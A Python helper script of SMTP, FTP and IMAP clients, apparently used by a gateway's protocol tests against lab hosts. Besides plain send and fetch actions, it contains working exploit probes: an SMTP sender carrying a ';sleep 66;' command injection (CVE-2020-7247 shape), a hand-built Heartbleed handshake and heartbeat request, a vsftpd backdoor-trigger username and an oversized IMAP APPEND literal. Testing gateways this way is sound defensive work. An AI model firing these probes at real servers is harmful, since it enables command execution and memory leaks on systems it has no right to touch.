#!/usr/bin/python3
"""Real protocol clients (python3 stdlib only) for test/gateway/protocols.test.ts.

usage: protocols-client.py ACTION IP [ARGS...]
  smtp-send IP FILE RCPT          send FILE (a whole message, CRLF lines) with smtplib
  smtp-exploit IP MARKER          MAIL FROM:<;sleep 66;> (CVE-2020-7247 shape), then RCPT/DATA if accepted
  smtp-starttls-send IP FILE RCPT EHLO, STARTTLS (no certificate check), EHLO, send FILE with smtplib
  smtp-heartbleed IP              raw socket: EHLO, STARTTLS, a TLS 1.2 ClientHello offering the heartbeat
                                  extension, the server's flight up to ServerHelloDone, then a heartbeat
                                  request claiming 16 KB in a 3-byte record (CVE-2014-0160 shape)
  ftp-get IP NAME OUTFILE         anonymous passive RETR NAME into OUTFILE
  ftp-exploit IP USER             USER <USER> (the vsftpd 2.3.4 backdoor shape when it holds ':)'), then USER anonymous
  imap-fetch IP USER OUTFILE      LOGIN, SELECT INBOX, FETCH 1 BODY.PEEK[] into OUTFILE
  imap-exploit IP USER            LOGIN, then 'pp1 APPEND INBOX {4294967296}' (literal size overflow), then NOOP
Prints one JSON object: what the client saw ('reset': the connection was reset or closed under it).
"""
import ftplib
import imaplib
import json
import os
import smtplib
import socket
import ssl
import sys
import time

TIMEOUT = 15
action, ip = sys.argv[1], sys.argv[2]
args = sys.argv[3:]
out = {'action': action, 'reset': False}
RESETS = (ConnectionError, EOFError, smtplib.SMTPServerDisconnected, imaplib.IMAP4.abort, socket.timeout, ssl.SSLError)
# the classic Heartbleed request: heartbeat record (24), TLS 1.2, 3 bytes: type 1 (request), payload_length 0x4000
HEARTBLEED = bytes([24, 3, 3, 0, 3, 1, 0x40, 0x00])


def decode(b):
    return b.decode('latin1') if isinstance(b, bytes) else str(b)


def u16(n):
    return n.to_bytes(2, 'big')


def client_hello():
    """A TLS 1.2 ClientHello with common ECDHE/RSA suites and the heartbeat extension (15)."""
    suites = [0xc02f, 0xc030, 0xc02b, 0xc02c, 0x009e, 0x009f, 0xc013, 0xc014, 0x009c, 0x009d, 0x002f, 0x0035, 0x00ff]
    sigalgs = [0x0804, 0x0805, 0x0806, 0x0401, 0x0501, 0x0601, 0x0403, 0x0503, 0x0603]
    sni = b'mail.lab.test'

    def ext(t, data):
        return u16(t) + u16(len(data)) + data
    exts = ext(0, u16(len(sni) + 3) + b'\x00' + u16(len(sni)) + sni)
    exts += ext(10, u16(6) + u16(0x001d) + u16(0x0017) + u16(0x0018))
    exts += ext(11, b'\x01\x00')
    exts += ext(13, u16(2 * len(sigalgs)) + b''.join(u16(a) for a in sigalgs))
    exts += ext(15, b'\x01')  # heartbeat: peer_allowed_to_send
    body = u16(0x0303) + os.urandom(32) + b'\x00' + u16(2 * len(suites)) + b''.join(u16(c) for c in suites)
    body += b'\x01\x00' + u16(len(exts)) + exts
    hs = b'\x01' + len(body).to_bytes(3, 'big') + body
    return b'\x16\x03\x01' + u16(len(hs)) + hs


class Raw:
    """A plain socket with a read buffer: SMTP replies and TLS records, every read bounded."""

    def __init__(self, ip, port):
        self.s = socket.create_connection((ip, port), timeout=TIMEOUT)
        self.buf = b''
        self.deadline = time.monotonic() + 3 * TIMEOUT

    def fill(self):
        if time.monotonic() > self.deadline or len(self.buf) > 256 * 1024:
            raise socket.timeout('read budget exhausted')
        d = self.s.recv(65536)
        if not d:
            raise EOFError('closed by the peer')
        self.buf += d

    def take(self, n):
        while len(self.buf) < n:
            self.fill()
        d, self.buf = self.buf[:n], self.buf[n:]
        return d

    def reply(self):
        lines = []
        for _ in range(64):
            while b'\r\n' not in self.buf:
                self.fill()
            line, self.buf = self.buf.split(b'\r\n', 1)
            lines.append(decode(line))
            if line[3:4] != b'-':
                return [int(line[:3]), lines]
        raise ValueError('reply too long')

    def command(self, line):
        self.s.sendall(line)
        return self.reply()

    def record(self):
        h = self.take(5)
        return h[0], int.from_bytes(h[1:3], 'big'), self.take(int.from_bytes(h[3:5], 'big'))


def server_flight(r):
    """Records up to ServerHelloDone or an alert: [type, version, length] each, handshake types, ServerHello, alert."""
    recs, types, hs, hello = [], [], b'', None
    for _ in range(32):
        ct, ver, body = r.record()
        recs.append([ct, ver, len(body)])
        if ct == 21:
            return recs, types, hello, list(body)
        if ct != 22:
            continue
        hs += body
        while len(hs) >= 4 and len(hs) >= 4 + int.from_bytes(hs[1:4], 'big'):
            n = int.from_bytes(hs[1:4], 'big')
            typ, msg, hs = hs[0], hs[4:4 + n], hs[4 + n:]
            types.append(typ)
            if typ == 2:
                # version, random, session id, suite, compression, extensions
                sid = msg[34]
                suite = int.from_bytes(msg[35 + sid:37 + sid], 'big')
                exts, rest = [], msg[38 + sid + 2:]
                while len(rest) >= 4:
                    exts.append(int.from_bytes(rest[:2], 'big'))
                    rest = rest[4 + int.from_bytes(rest[2:4], 'big'):]
                hello = {'version': int.from_bytes(msg[:2], 'big'), 'suite': suite, 'extensions': exts}
            if typ == 14:
                return recs, types, hello, None
    raise ValueError('no ServerHelloDone in 32 records')


try:
    if action == 'smtp-send':
        msg = open(args[0], 'rb').read()
        s = smtplib.SMTP(ip, 25, timeout=TIMEOUT)
        s.ehlo('client.lab.test')
        out['refused'] = {k: [c, decode(m)] for k, (c, m) in s.sendmail('sender@example.net', [args[1]], msg).items()}
        s.quit()
        out['ok'] = True
    elif action == 'smtp-exploit':
        s = smtplib.SMTP(ip, 25, timeout=TIMEOUT)
        s.ehlo('client.lab.test')
        code, text = s.mail(';sleep 66;')
        out['mail'] = [code, decode(text)]
        if code == 250:
            out['rcpt'] = list(s.rcpt('box@lab.test'))
            out['rcpt'][1] = decode(out['rcpt'][1])
            code, text = s.data(('Subject: %s\r\n\r\nafter the sender\r\n' % args[0]).encode())
            out['data'] = [code, decode(text)]
        else:
            s.rset()
        out['noop'] = s.noop()[0]
        s.quit()
    elif action == 'smtp-starttls-send':
        msg = open(args[0], 'rb').read()
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        s = smtplib.SMTP(ip, 25, timeout=TIMEOUT)
        out['port'] = s.sock.getsockname()[1]
        s.ehlo('client.lab.test')
        out['offered'] = s.has_extn('starttls')
        t0 = time.monotonic()
        code, text = s.starttls(context=ctx)
        out['starttls'] = [code, decode(text)]
        out['handshake_ms'] = round((time.monotonic() - t0) * 1000, 1)
        out['tls'] = s.sock.version()
        out['cipher'] = s.sock.cipher()[0]
        s.ehlo('client.lab.test')
        out['refused'] = {k: [c, decode(m)] for k, (c, m) in s.sendmail('sender@example.net', [args[1]], msg).items()}
        s.quit()
        out['ok'] = True
    elif action == 'smtp-heartbleed':
        r = Raw(ip, 25)
        out['port'] = r.s.getsockname()[1]
        out['phase'] = 'smtp'
        out['banner'] = r.reply()
        t0 = time.monotonic()
        out['ehlo'] = r.command(b'EHLO client.lab.test\r\n')
        out['ehlo_ms'] = round((time.monotonic() - t0) * 1000, 1)
        out['starttls'] = r.command(b'STARTTLS\r\n')
        if out['starttls'][0] != 220:
            raise SystemExit('STARTTLS refused: %r' % out['starttls'])
        out['phase'] = 'handshake'
        hello = client_hello()
        out['hello'] = hello.hex()
        t0 = time.monotonic()
        r.s.sendall(hello)
        out['records'], out['handshake'], out['server_hello'], out['alert'] = server_flight(r)
        out['flight_ms'] = round((time.monotonic() - t0) * 1000, 1)
        out['phase'] = 'heartbeat'
        out['heartbeat'] = HEARTBLEED.hex()
        r.s.sendall(HEARTBLEED)
        # what comes back within 5 s: a leak, an alert, an orderly close or a reset
        r.s.settimeout(5)
        r.deadline = time.monotonic() + 5
        out['after'] = []
        try:
            for _ in range(32):
                ct, ver, body = r.record()
                out['after'].append([ct, ver, len(body)] + (list(body) if ct == 21 else []))
        except EOFError:
            out['closed'] = True
        except socket.timeout:
            out['timeout'] = True
    elif action == 'ftp-get':
        f = ftplib.FTP(ip, timeout=TIMEOUT)
        f.login()
        with open(args[1], 'wb') as fh:
            out['retr'] = f.retrbinary('RETR ' + args[0], fh.write)
        f.quit()
    elif action == 'ftp-exploit':
        f = ftplib.FTP(ip, timeout=TIMEOUT)
        try:
            out['user'] = f.sendcmd('USER ' + args[0])
        except ftplib.error_perm as e:
            out['user'] = str(e)
        out['again'] = f.sendcmd('USER anonymous')
        f.close()
    elif action == 'imap-fetch':
        m = imaplib.IMAP4(ip, 143, timeout=TIMEOUT)
        m.login(args[0], 'lab')
        out['select'] = decode(m.select('INBOX')[1][0])
        typ, data = m.fetch('1', '(BODY.PEEK[])')
        out['fetch'] = typ
        with open(args[1], 'wb') as fh:
            fh.write(data[0][1])
        m.logout()
    elif action == 'imap-exploit':
        m = imaplib.IMAP4(ip, 143, timeout=TIMEOUT)
        m.login(args[0], 'lab')
        m.send(b'pp1 APPEND INBOX {4294967296}\r\n')
        out['append'] = decode(m.readline()).strip()
        if out['append'].startswith('+'):
            # the server waits for the literal: hang up
            m.shutdown()
        else:
            out['noop'] = m.noop()[0]
            m.logout()
    else:
        raise SystemExit('unknown action ' + action)
except RESETS as e:
    out['reset'] = True
    out['error'] = '%s: %s' % (type(e).__name__, e)
print(json.dumps(out))
